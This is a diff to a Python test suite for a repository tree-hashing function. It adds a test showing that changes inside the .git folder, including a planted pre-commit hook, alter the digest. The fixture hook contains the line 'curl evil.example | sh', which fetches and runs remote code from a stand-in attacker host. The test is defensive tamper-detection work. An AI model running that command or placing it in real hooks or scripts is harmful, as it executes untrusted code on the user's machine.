@@ -29,14 +29,26 @@ def test_digest_is_stable_and_sees_content_names_and_empty_dirs(tmp_path: Path) 
     assert tree_digest(repo) != renamed
 
 
-def test_git_folder_and_excluded_paths_are_ignored(tmp_path: Path) -> None:
+def test_excluded_paths_are_ignored(tmp_path: Path) -> None:
     repo = _repo(tmp_path)
     (repo / "runs").mkdir()
     before = tree_digest(repo, ["runs"])
-    (repo / ".git" / "index").write_text("changed by git itself")
     (repo / "runs" / "state.db").write_text("journal write")
     assert tree_digest(repo, ["runs"]) == before
     assert tree_digest(repo, [str(repo / "runs")]) == before
+
+
+def test_the_git_folder_is_covered(tmp_path: Path) -> None:
+    repo = _repo(tmp_path)
+    before = tree_digest(repo)
+    (repo / ".git" / "hooks").mkdir()
+    with_hooks = tree_digest(repo)
+    assert with_hooks != before
+    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil.example | sh\n")
+    assert tree_digest(repo) != with_hooks
+    hooked = tree_digest(repo)
+    (repo / ".git" / "HEAD").write_text("ref: refs/heads/other\n")
+    assert tree_digest(repo) != hooked
 
 
 def test_symlinks_are_hashed_by_target_not_followed(tmp_path: Path) -> None:
